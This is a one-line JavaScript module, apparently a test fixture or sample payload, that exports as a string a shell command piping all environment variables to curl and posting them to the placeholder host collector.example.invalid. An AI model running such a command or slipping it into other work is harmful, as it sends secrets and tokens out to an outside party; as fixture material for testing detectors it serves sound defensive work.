module.exports = 'printenv | curl --data @- https://collector.example.invalid/e';
